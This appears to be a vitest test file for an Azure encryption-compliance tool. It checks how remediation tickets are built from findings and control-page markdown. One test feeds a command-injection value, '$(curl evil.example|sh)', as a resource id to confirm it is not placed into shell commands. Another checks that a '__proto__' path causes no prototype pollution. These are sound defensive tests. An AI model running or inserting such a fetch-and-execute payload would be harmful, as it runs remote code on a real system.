import { describe, expect, it } from "vitest";
import { CATALOG } from "../../../shared/controls/catalog/index.ts";
import { buildTicketContent, fillPlaceholders, ticketTitle } from "../../../shared/tickets/content.ts";
import { resourceNameOf } from "../../../shared/core/index.ts";
import { ControlDocs, parseControlDoc } from "../../../shared/tickets/controlDocs.ts";
import { fingerprintFromMarker, fingerprintMarker, fingerprintOf } from "../../../shared/tickets/fingerprint.ts";
import { describeChanges, snapshotOf } from "../../../shared/tickets/snapshot.ts";
import { renderMarkdown } from "../../../shared/tickets/text/index.ts";
import { STORAGE_ID, SUBSCRIPTION, tlsFinding } from "./samples.ts";

const markdown = (content: { body: Parameters<typeof renderMarkdown>[0] }) => renderMarkdown(content.body, 65_536);

const PAGE = `# storage.min-tls

Some introduction.

## What goes wrong

Clients can still negotiate TLS 1.0 with <name>, which is broken.

## Fix by hand

\`\`\`sh
az storage account update --ids <resource-id> --min-tls-version TLS1_2
# a heading inside a fence is not a section:
## not a heading
\`\`\`

## Automatic fix

Clients that only speak TLS 1.0 (old .NET Framework) stop connecting to $RESOURCE_GROUP.

## References

- elsewhere
`;

describe("fingerprint", () => {
  it("is the control id plus the lower-cased resource id, hashed, so casing and a trailing slash do not matter", () => {
    const fingerprint = fingerprintOf("storage.min-tls", STORAGE_ID);
    expect(fingerprint).toMatch(/^[0-9a-f]{20}$/);
    expect(fingerprintOf("storage.min-tls", `${STORAGE_ID.toUpperCase()}/`)).toBe(fingerprint);
    expect(fingerprintOf("storage.https-only", STORAGE_ID)).not.toBe(fingerprint);
    expect(fingerprintOf("storage.min-tls", STORAGE_ID.replace("appdata01", "appdata02"))).not.toBe(fingerprint);
  });

  it("is written on tickets as a marker short enough for a GitHub label, and read back from it", () => {
    const marker = fingerprintMarker(fingerprintOf("storage.min-tls", STORAGE_ID));
    expect(marker.length).toBeLessThanOrEqual(50);
    expect(fingerprintFromMarker(` ${marker.toUpperCase()} `)).toBe(fingerprintOf("storage.min-tls", STORAGE_ID));
    expect(fingerprintFromMarker("encryption-guard")).toBeUndefined();
    expect(fingerprintFromMarker("eg-fp-123")).toBeUndefined();
  });
});

describe("ticket content", () => {
  it("titles tickets `[encryption-guard] <control title>: <resource name>`, naming child documents by their parents", () => {
    expect(ticketTitle(tlsFinding())).toBe("[encryption-guard] Storage account requires TLS 1.2 or newer: appdata01");
    const tde = `/subscriptions/${SUBSCRIPTION}/resourceGroups/db/providers/Microsoft.Sql/servers/sql01/databases/orders/transparentDataEncryption/current`;
    expect(resourceNameOf(tde)).toBe("sql01/orders");
    expect(resourceNameOf(`/subscriptions/${SUBSCRIPTION}/resourceGroups/db/providers/Microsoft.DBforPostgreSQL/flexibleServers/pg01/configurations/require_secure_transport`)).toBe(
      "pg01/require_secure_transport",
    );
    expect(resourceNameOf("not an id/but-a-path")).toBe("but-a-path");
  });

  it("quotes the control page's sections with placeholders filled, and shows evidence, classification, owner and the doc link", () => {
    const content = buildTicketContent({ finding: tlsFinding(), owner: "team-data@contoso.com" }, parseControlDoc(PAGE), { docsBaseUrl: "https://github.com/contoso/guard/blob/main/docs/controls/" });
    const body = markdown(content);

    expect(content.fingerprint).toBe(fingerprintOf("storage.min-tls", STORAGE_ID));
    expect(body).toContain("Clients can still negotiate TLS 1.0 with `appdata01`, which is broken.");
    expect(body).toContain(`az storage account update --ids ${STORAGE_ID} --min-tls-version TLS1_2`);
    expect(body).toContain("## not a heading");
    expect(body).toContain("stop connecting to `app`.");
    expect(body).not.toContain("elsewhere");
    expect(body).toContain('| `properties.minimumTlsVersion` | `"TLS1_0"` | TLS1\\_2 or TLS1\\_3 |');
    expect(body).toContain("| Classification | confidential |");
    expect(body).toContain("| Owner | team-data@\u200Dcontoso.com |");
    expect(body).toContain("| Why a ticket | the policy asks for a ticket (mode ticket) |");
    expect(body).toContain("[storage.min-tls](<https://github.com/contoso/guard/blob/main/docs/controls/storage.min-tls.md>)");
    expect(body).toContain("MCSB DP-3");
    expect(body).toContain(fingerprintMarker(content.fingerprint));
    expect(body.indexOf("## What is wrong")).toBeLessThan(body.indexOf("## Evidence"));
    expect(body.indexOf("## How to fix it by hand")).toBeLessThan(body.indexOf("## What the fix does and can break"));
  });

  it("falls back gracefully without a page: generic steps from the evidence, a caution, a relative doc link, an unknown owner", () => {
    const content = buildTicketContent({ finding: tlsFinding({ evidence: { path: "properties.minimumTlsVersion", actual: undefined, expected: "TLS1_2 or TLS1_3" } }) }, {});
    const body = markdown(content);
    expect(content.docUrl).toBe("docs/controls/storage.min-tls.md");
    expect(body).toContain("storage.min-tls (`docs/controls/storage.min-tls.md`) · Well-Architected SE:07");
    expect(body).toContain("| `properties.minimumTlsVersion` | `absent` | TLS1\\_2 or TLS1\\_3 |");
    expect(body).toContain(`az resource show --ids '${STORAGE_ID}' --query 'properties.minimumTlsVersion'`);
    expect(body).toContain(`az resource update --ids '${STORAGE_ID}' --set 'properties.minimumTlsVersion=<value>'`);
    expect(body).toContain('"minimumTlsVersion": "<TLS1_2 or TLS1_3>"');
    expect(body).toContain("The control's page does not say. Try the change on a non-production copy first.");
    expect(body).toContain("## What the fix does and can break");
    expect(body).toContain("| Owner | unknown: the resource has no `owner` tag |");
  });

  it("gives the exact command and template when the policy held a planned fix back, and says why automatic fixing stopped", () => {
    const finding = tlsFinding({ controlId: "storage.cmk", title: "Storage account encrypts with a customer-managed key" });
    const fix = {
      resourceId: STORAGE_ID,
      resourceType: "Microsoft.Storage/storageAccounts",
      controlId: "storage.cmk",
      safety: "safe" as const,
      summary: "Encrypt with a customer-managed key",
      changes: [
        { path: "properties.encryption.keySource", before: "Microsoft.Storage", after: "Microsoft.Keyvault" },
        { path: "properties.encryption.keyvaultproperties", before: undefined, after: { keyname: "cmk", keyvaulturi: "https://kv.vault.azure.net/" } },
      ],
    };
    const body = markdown(
      buildTicketContent({ finding, fix, reason: "the blast-radius breaker is open", exception: { kind: "drift", reason: "reverted 3 times", since: "2026-02-01T00:00:00Z" } }, {}),
    );
    expect(body).toContain(
      `az resource update --ids '${STORAGE_ID}' \\\n  --set 'properties.encryption.keySource=Microsoft.Keyvault' \\\n  --set 'properties.encryption.keyvaultproperties={"keyname":"cmk","keyvaulturi":"https://kv.vault.azure.net/"}'`,
    );
    expect(body).toContain('"keySource": "Microsoft.Keyvault"');
    expect(body).toContain("| Why a ticket | the blast-radius breaker is open |");
    expect(body).toContain("| Automatic fixing stopped | drift: reverted 3 times (since 2026-02-01T00:00:00Z) |");
  });

  it("writes a planned change whose path names __proto__ into the template as a name, reaching no prototype", () => {
    const fix = {
      resourceId: STORAGE_ID,
      resourceType: "Microsoft.Storage/storageAccounts",
      controlId: "storage.min-tls",
      safety: "safe" as const,
      summary: "x",
      changes: [{ path: "__proto__.polluted", before: undefined, after: "yes" }],
    };
    const body = markdown(buildTicketContent({ finding: tlsFinding(), fix }, {}));
    expect(body).toContain('"__proto__": {\n    "polluted": "yes"\n  }');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it("fills the placeholders control pages use, only with the resource's own names", () => {
    const fenced = (text: string) => `\`\`\`sh\n${text}\n\`\`\``;
    expect(fillPlaceholders(fenced("az x --ids <resource-id> -g <rg> -n <account> --subscription $SUBSCRIPTION_ID --vault <vault> --identity <identity-resource-id>"), tlsFinding())).toBe(
      fenced(`az x --ids ${STORAGE_ID} -g app -n appdata01 --subscription ${SUBSCRIPTION} --vault <vault> --identity <identity-resource-id>`),
    );
    const tde = `/subscriptions/${SUBSCRIPTION}/resourceGroups/db/providers/Microsoft.Sql/servers/sql01/databases/orders/transparentDataEncryption/current`;
    expect(fillPlaceholders("Run `az sql db tde set --resource-group <rg> --server <server> --database <database>`.", tlsFinding({ resourceId: tde }))).toBe(
      "Run `az sql db tde set --resource-group db --server sql01 --database orders`.",
    );
    const vault = `/subscriptions/${SUBSCRIPTION}/resourceGroups/sec/providers/Microsoft.KeyVault/vaults/kv01`;
    expect(fillPlaceholders(fenced("--resource <vault-resource-id> --workspace <workspace-resource-id>"), tlsFinding({ resourceId: vault }))).toBe(
      fenced(`--resource ${vault} --workspace <workspace-resource-id>`),
    );
    const topic = `/subscriptions/${SUBSCRIPTION}/resourceGroups/ev/providers/Microsoft.EventGrid/domains/d1`;
    expect(fillPlaceholders(fenced("--ids {resourceId}"), tlsFinding({ resourceId: topic }))).toBe(fenced(`--ids ${topic}`));
    expect(fillPlaceholders(fenced("--ids <topic-or-domain-resource-id>"), tlsFinding({ resourceId: topic }))).toBe(fenced(`--ids ${topic}`));
  });

  it("puts a value in a sentence as a code span, and never a value that is not a plain word", () => {
    expect(fillPlaceholders("The group <rg> holds $RESOURCE_GROUP.", tlsFinding())).toBe("The group `app` holds `app`.");
    const odd = `/subscriptions/${SUBSCRIPTION}/resourceGroups/rg(1)/providers/Microsoft.Storage/storageAccounts/appdata01`;
    expect(fillPlaceholders("```sh\naz x -g <rg> -n <account>\n```", tlsFinding({ resourceId: odd }))).toBe("```sh\naz x -g <rg> -n appdata01\n```");
    expect(fillPlaceholders("```sh\naz x --ids <resource-id>\n```", tlsFinding({ resourceId: "$(curl evil.example|sh)" }))).toBe("```sh\naz x --ids <resource-id>\n```");
  });

  it("quotes every control page of the catalog: what goes wrong, the steps by hand with this resource's names, what the fix does", async () => {
    const docs = new ControlDocs();
    for (const control of CATALOG) {
      const doc = await docs.get(control.id);
      expect(doc.whatGoesWrong, control.id).toBeTruthy();
      expect(doc.howToFixByHand, control.id).toMatch(/### Azure CLI[\s\S]*```[\s\S]*### Bicep/);
      expect(doc.whatTheFixCanBreak, control.id).toBeTruthy();
    }
    const body = markdown(buildTicketContent({ finding: tlsFinding() }, await docs.get("storage.min-tls")));
    expect(body).toContain("az storage account update --resource-group app --name appdata01 --min-tls-version TLS1_2");
    expect(body).toContain("### Bicep");
  });

  it("says when a certificate's ticket is due, and names the certificate, its subject, issuer and vault from the evidence", async () => {
    const certificate = `/subscriptions/${SUBSCRIPTION}/resourceGroups/web/providers/Microsoft.KeyVault/vaults/kv-apps/certificates/www-contoso-com`;
    const finding = tlsFinding({
      resourceId: certificate,
      resourceType: "Microsoft.KeyVault/vaults/certificates",
      controlId: "keyvault.certificate-expiry",
      title: "Key Vault certificate is not expired or about to expire without renewal",
      evidence: {
        path: "properties.attributes.expires",
        actual: { certificate: "www-contoso-com", subject: "CN=www.contoso.com", issuer: "Unknown", vault: "kv-apps", expires: "2027-06-01T00:00:00.000Z" },
        expected: "expires more than 30 days from now, or Key Vault renews it before then",
        dueBy: "2027-05-31T00:00:00.000Z",
      },
    });
    const body = markdown(buildTicketContent({ finding }, await new ControlDocs().get("keyvault.certificate-expiry")));
    expect(body).toMatch(/Due by \| 2027-05-31 \(before clients refuse the certificate\)/);
    for (const named of ["www-contoso-com", "CN=www.contoso.com", "Unknown", "kv-apps"]) expect(body).toContain(named);
    expect(markdown(buildTicketContent({ finding: tlsFinding() }, {}))).not.toContain("Due by");
  });

  it("falls back to an empty page for a control without one, or an id that is not a file name", async () => {
    const docs = new ControlDocs();
    expect(await docs.get("guard.breaker")).toEqual({});
    expect(await docs.get("../README")).toEqual({});
  });
});

describe("control pages", () => {
  it("match sections by meaning, keep subsections inside their section, and keep the first of each", () => {
    const doc = parseControlDoc(
      "---\nid: x\n---\n# x\n\n## Synopsis\n\nshort\n\n## Why it matters\n\nrisk text\n\n## Side effects\n\nrestarts\n\n## Manual steps\n\n### Azure CLI\n\nsteps\n\n## What goes wrong\n\nignored second\n",
    );
    expect(doc).toEqual({ synopsis: "short", whatGoesWrong: "risk text", whatTheFixCanBreak: "restarts", howToFixByHand: "### Azure CLI\n\nsteps" });
    expect(parseControlDoc("# Title only\n\ntext")).toEqual({});
  });
});

describe("what changed", () => {
  it("lists the fields a reader cares about, and nothing for a re-detection that only differs in time", () => {
    const before = snapshotOf({ finding: tlsFinding(), owner: "a@contoso.com" });
    expect(describeChanges(before, snapshotOf({ finding: tlsFinding(), owner: "a@contoso.com" }))).toEqual([]);
    const after = snapshotOf({ finding: tlsFinding({ evidence: { path: "properties.minimumTlsVersion", actual: "TLS1_1", expected: "TLS1_2 or TLS1_3" }, classification: "highly-confidential" }) });
    expect(renderMarkdown([{ list: describeChanges(before, after) }], 65_536)).toBe(
      ["- Classification: `confidential` → `highly-confidential`", "- Owner: `a@contoso.com` → `none`", '- Actual value: `"TLS1_0"` → `"TLS1_1"`'].join("\n"),
    );
  });
});
